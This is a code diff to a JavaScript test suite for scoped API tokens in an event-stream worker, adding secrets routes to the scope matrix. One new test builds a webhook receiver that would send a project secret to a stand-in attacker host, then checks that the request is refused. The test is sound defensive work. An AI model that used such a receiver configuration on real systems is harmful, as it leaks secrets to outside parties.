@@ -2,10 +2,11 @@
 // the built worker: the matrix scope × route (a token holding the scopes a
 // route needs is not refused; one lacking any gets 403 `forbidden_scope`
 // naming it), prefix tokens refused outside their prefix, for the
-// project-wide processors and sources, and for moving, resuming or
-// replaying a copy another token configured outside the prefix, the
-// catalog narrowed to the prefix, refused requests commit nothing,
-// `GET /v1/token`, and hostile scoped values answering 500 `misconfigured`. The mapping itself is
+// project-wide processors, sources and secrets (and for a receiver naming
+// a secret), and for moving, resuming or replaying a copy another token
+// configured outside the prefix, the catalog narrowed to the prefix,
+// refused requests commit nothing, `GET /v1/token`, and hostile scoped
+// values answering 500 `misconfigured`. The mapping itself is
 // `src/route/scope.rs`, its native matrix `tests/scoped_tokens.rs`.
 import { test, before, after } from "node:test";
 import assert from "node:assert/strict";
@@ -113,6 +114,9 @@ function routes(base) {
     ["DELETE", "/v1/processors/totals", undefined, ["manage"]],
     ["PUT", "/v1/sources/usdc", "{}", ["manage"]],
     ["DELETE", "/v1/sources/usdc", undefined, ["manage"]],
+    ["GET", "/v1/secrets", undefined, ["manage"]],
+    ["PUT", "/v1/secrets/HOOK", JSON.stringify({ value: "https://example.com/hook" }), ["manage"]],
+    ["DELETE", "/v1/secrets/HOOK", undefined, ["manage"]],
     ["DELETE", s(), undefined, ["manage"]],
   ];
 }
@@ -168,7 +172,7 @@ test("§2 Scopes: a refused append commits nothing — not a data event without 
   assert.deepEqual(await head(path), [seeded.offset, next.offset]);
 });
 
-test("§2 Scopes: a prefix token reaches only streams under its prefix; processors and sources need an unprefixed token", async () => {
+test("§2 Scopes: a prefix token reaches only streams under its prefix; processors, sources and secrets need an unprefixed token", async () => {
   await appendOk("/other/x", { type: "seed" });
   for (const [method, path, body] of routes("/other/x")) {
     const res = await call("app", method, path, body);
@@ -177,7 +181,7 @@ test("§2 Scopes: a prefix token reaches only streams under its prefix; processo
       const details = assertForbidden(res, what);
       assert.equal(details.prefix, "/app/", what);
       assert.match(details.path, /^\/other\/x/, what);
-    } else if (path.startsWith("/v1/processors") || path.startsWith("/v1/sources")) {
+    } else if (["/v1/processors", "/v1/sources", "/v1/secrets"].some((prefix) => path.startsWith(prefix))) {
       assert.deepEqual(assertForbidden(res, what), { prefix: "/app/", resource: "project" });
     } else {
       assert.notEqual(res.status, 403, `${what}: ${JSON.stringify(res.body)}`);
@@ -198,6 +202,14 @@ test("§2 Scopes: a prefix token reaches only streams under its prefix; processo
   assert.deepEqual(await head("/other/x"), [1], "nothing was appended outside the prefix");
   const inside = await call("app", "POST", streamUrl("/app/inside", "events"), DATA);
   assert.equal(inside.status, 201, JSON.stringify(inside.body));
+  // Nor name a project secret in a receiver it configures (§9): it could send it to a URL of its own.
+  const namesSecret = JSON.stringify({
+    type: "events.iterate.com/stream/subscription-configured",
+    payload: { subscriptionKey: "out", receiver: { action: "webhook-post", url: "https://attacker.example/h", headers: { authorization: { secret: "HOOK" } }, delivery: { start: "now", onFailingEvent: "skip" } } },
+  });
+  const refusedSecret = await call("app", "POST", streamUrl("/app/secretive", "events"), namesSecret);
+  assert.deepEqual(assertForbidden(refusedSecret, "secret reference"), { prefix: "/app/", resource: "project" });
+  assert.equal((await call("full", "GET", streamUrl("/app/secretive"))).status, 404, "the refused configure created nothing");
 });
 
 const CONFIGURED = "events.iterate.com/stream/subscription-configured";
